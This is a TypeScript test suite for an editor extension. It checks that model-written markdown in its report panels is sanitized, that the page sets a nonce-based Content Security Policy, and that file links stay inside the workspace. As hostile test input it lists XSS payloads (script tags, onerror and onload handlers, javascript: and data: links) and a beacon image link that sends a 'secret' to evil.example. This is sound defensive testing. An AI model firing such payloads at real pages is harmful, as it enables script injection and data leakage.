// Rendering model-written markdown for the QC report and ADR panels: nothing executable survives,
// file links become "open in editor" links, and the page carries a strict CSP with a nonce.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { resolveInside } from '../../src/extension/models/linkTarget';
import { parseFileLink, renderMarkdown } from '../../src/extension/models/markdownRender';
import { adrBadges, qcBadges, renderBadges } from '../../src/extension/models/reportBadges';
import { isSafeHref, sanitizeHtml } from '../../src/extension/models/sanitize';
import { parseWebviewMessage } from '../../src/extension/models/webviewProtocol';
import { renderPage } from '../../src/extension/models/webviewPage';
import { mdText } from '../../src/extension/models/inertText';
import MarkdownIt from 'markdown-it';

const HOSTILE = [
  '# QC report <script>alert(1)</script>',
  '',
  '<script>window.pwned = true</script>',
  '<img src=x onerror="window.pwned=1">',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">raw html link</a>',
  '[js link](javascript:alert(1))',
  '[encoded js](&#106;avascript:alert(1))',
  '[vb](vbscript:msgbox(1))',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](data:image/svg+xml,<svg onload=alert(1)>)',
  '![remote](https://evil.example/x.png)',
  '<div style="background:url(javascript:alert(1))" onclick="x()">div</div>',
  '<svg><script>alert(1)</script></svg>',
  '`<script>in code</script>`',
  '',
  '- **MAJOR** [src/parser.ts:12](src/parser.ts:12) missing error handling',
  '- MINOR style [docs](https://example.com/docs)',
].join('\n');

/** The real tags of a rendered fragment (text can hold no raw `<`: it is escaped). */
function tags(html: string): string[] {
  return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)[^<>]*>/g)].map((m) => m[0]);
}

const SAFE_TAGS = /^<\/?(p|h[1-6]|ul|ol|li|a|code|pre|em|strong|span|blockquote|table|thead|tbody|tr|th|td|hr|br|s|del)\b/;

describe('extension webview rendering', () => {
  it('hostile markdown renders with nothing executable left', () => {
    const html = renderMarkdown(HOSTILE);
    assert.doesNotMatch(html.replace(/<[^<>]*>/g, ''), /[<>]/, 'no raw angle bracket outside a real tag');
    for (const tag of tags(html)) {
      assert.match(tag, SAFE_TAGS, `unexpected tag ${tag}`);
      assert.doesNotMatch(tag, /\son[a-z]+\s*=/i, `event handler in ${tag}`);
      assert.doesNotMatch(tag, /\s(src|style)\s*=/i, `resource or style attribute in ${tag}`);
      const href = /href="([^"]*)"/.exec(tag)?.[1];
      if (href !== undefined) assert.match(href, /^(#|https:\/\/example\.com\/)/, `unsafe href in ${tag}`);
    }
    assert.match(html, /&lt;script&gt;/, 'raw HTML is shown as text, not dropped silently');
  });

  it('file links open in the editor; web links keep their URL; severities become badges', () => {
    const html = renderMarkdown(HOSTILE);
    assert.match(html, /<a href="#" data-open-file="src\/parser.ts" data-line="12"/);
    assert.match(html, /<a href="https:\/\/example.com\/docs"/);
    assert.match(html, /<span class="badge sev-major">MAJOR<\/span>/);
    assert.match(html, /<span class="badge sev-minor">MINOR<\/span>/);
    assert.match(html, /<code>&lt;script&gt;in code&lt;\/script&gt;<\/code>/, 'code stays verbatim and inert');
  });

  it('the sanitizer alone strips what markdown-it would never emit', () => {
    const dirty =
      '<p onclick="x()">a</p><script>b</script><a href="javascript:c()">d</a><a href="&#x6A;avascript:e()">f</a>' +
      '<img src=x onerror=alert(1)><td style="color:red">g</td><span class="ok">h</span></b></p>';
    const clean = sanitizeHtml(dirty);
    assert.equal(
      clean,
      '<p>a</p>&lt;script&gt;b&lt;/script&gt;<a>d</a><a>f</a>&lt;img src=x onerror=alert(1)&gt;<td>g</td><span class="ok">h</span>&lt;/b&gt;',
    );
    assert.equal(isSafeHref(' java\tscript:alert(1)'), false);
    assert.equal(isSafeHref('https://x'), true);
    assert.equal(isSafeHref('data:text/html,x'), false);
  });

  it('the page has a CSP meta with a nonce, no inline script, and scripts only with that nonce', () => {
    const page = renderPage({
      title: 'QC: parser <b>',
      kind: 'qc',
      badgesHtml: renderBadges(qcBadges('- CRITICAL x\n- MAJOR y', 'FAIL-CRITICAL')),
      bodyHtml: renderMarkdown(HOSTILE),
      cspSource: 'https://webview.example',
      scriptUri: 'https://webview.example/media/panel.js',
      styleUri: 'https://webview.example/media/panel.css',
    });
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(page)?.[1];
    assert.ok(csp, 'CSP meta present');
    assert.match(csp, /^default-src 'none'/);
    const nonce = /script-src 'nonce-([A-Za-z0-9]+)'/.exec(csp)?.[1];
    assert.ok(nonce && nonce.length >= 16, 'script-src is a nonce');
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
    const scripts = [...page.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
    assert.equal(scripts.length, 1, 'exactly one script element');
    assert.match(scripts[0]?.[1] ?? '', new RegExp(`nonce="${nonce}"`));
    assert.match(scripts[0]?.[1] ?? '', /src="https:\/\/webview.example\/media\/panel.js"/);
    assert.equal((scripts[0]?.[2] ?? '').trim(), '', 'no inline code');
    assert.match(page, /<title>QC: parser &lt;b&gt;<\/title>/);
    assert.match(page, /tone-critical">FAIL-CRITICAL/);
    const second = renderPage({ title: 't', kind: 'adr', badgesHtml: '', bodyHtml: '', cspSource: 'c', scriptUri: 's', styleUri: 'st' });
    assert.notEqual(/nonce-([A-Za-z0-9]+)/.exec(second)?.[1], nonce, 'a fresh nonce per render');
  });

  it('badges: verdict and severity counts for QC, status and level for ADRs', () => {
    const md = '# QC\nVerdict: FAIL-MAJOR\n\n| sev | file |\n|---|---|\n| MAJOR | a.ts |\n| MINOR | b.ts |\n- MINOR c\nText mentioning CRITICAL outside a finding.';
    assert.deepEqual(qcBadges(md), [
      { label: 'FAIL-MAJOR', tone: 'major' },
      { label: '1 major', tone: 'major' },
      { label: '2 minor', tone: 'minor' },
    ]);
    assert.deepEqual(adrBadges('## Status\n\nAccepted', 'critical'), [
      { label: 'accepted', tone: 'pass' },
      { label: 'critical', tone: 'critical' },
    ]);
  });

  it('webview messages are validated; file links parse with lines', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { type: 'ready' });
    assert.deepEqual(parseWebviewMessage({ type: 'open-file', path: 'a.ts', line: 3 }), { type: 'open-file', path: 'a.ts', line: 3 });
    assert.deepEqual(parseWebviewMessage({ type: 'open-file', path: 'a.ts', line: -1 }), { type: 'open-file', path: 'a.ts' });
    assert.equal(parseWebviewMessage({ type: 'run', code: 'x' }), undefined);
    assert.equal(parseWebviewMessage('ready'), undefined);
    assert.deepEqual(parseFileLink('src/a.ts#L12'), { path: 'src/a.ts', line: 12 });
    assert.deepEqual(parseFileLink('src/my%20file.ts'), { path: 'src/my file.ts' });
    assert.equal(parseFileLink('https://x'), undefined);
  });
});

describe('extension webview file links', () => {
  it('open only existing files inside the given roots', () => {
    const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'bp-links-')));
    const root = path.join(base, 'worktree');
    fs.mkdirSync(path.join(root, 'src'), { recursive: true });
    fs.writeFileSync(path.join(root, 'src', 'a.ts'), 'x');
    fs.writeFileSync(path.join(base, 'secret.txt'), 'outside');
    fs.symlinkSync(path.join(base, 'secret.txt'), path.join(root, 'src', 'link.txt'));
    try {
      assert.equal(resolveInside('src/a.ts', [root]), path.join(root, 'src', 'a.ts'));
      assert.equal(resolveInside('/src/a.ts', [root]), path.join(root, 'src', 'a.ts'), 'a leading slash is relative to the root');
      assert.equal(resolveInside('../secret.txt', [root]), undefined, 'no climbing out');
      assert.equal(resolveInside('src/../../secret.txt', [root]), undefined);
      assert.equal(resolveInside('src/link.txt', [root]), undefined, 'no symlink out of the root');
      assert.equal(resolveInside('src', [root]), undefined, 'folders are not opened');
      assert.equal(resolveInside('src/missing.ts', [root]), undefined);
      assert.equal(resolveInside('secret.txt', [path.join(base, 'nope'), base]), path.join(base, 'secret.txt'), 'later roots are tried');
    } finally {
      fs.rmSync(base, { recursive: true, force: true });
    }
  });
});

describe('markdown rendering of agent files', () => {
  it('drops the DONE sentinel line instead of showing it as text', () => {
    const html = renderMarkdown('## Recommendation\nPASS — proceed to assembly\n<!-- DONE -->\n');
    assert.doesNotMatch(html, /DONE/);
    assert.match(html, /proceed to assembly/);
  });
});

describe('model text in tree tooltips (markdown)', () => {
  it('shows the same characters and makes no image, link or emphasis of them', () => {
    const md = new MarkdownIt({ linkify: false });
    const hostile = 'see ![beacon](https://evil.example/?q=secret) and [click](command:workbench.action.terminal.new) **loud** <img src=x> `code`\nnext line';
    const html = md.render(mdText(hostile));
    assert.doesNotMatch(html, /<img|<a |<strong>|<code>/, html);
    // The words are all there, unescaped again by the renderer.
    const text = html.replace(/<br>\n?/g, '\n').replace(/<\/?p>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/&quot;/g, '"').trim();
    assert.equal(text, hostile);
  });
});

describe('table alignment in report panels', () => {
  it('comes through as a class of the panel stylesheet, since the page refuses style attributes', () => {
    const html = renderMarkdown('| a | b |\n|:--|--:|\n| 1 | 2 |\n');
    assert.equal(sanitizeHtml(html), html, 'a second pass keeps it');
    assert.match(html, /<th class="align-left">a<\/th>/);
    assert.match(html, /<td class="align-right">2<\/td>/);
    assert.doesNotMatch(html, /style=/);
    assert.match(fs.readFileSync(path.join(__dirname, '../../../media/panel.css'), 'utf8'), /\.align-right \{ text-align: right; \}/);
  });
});
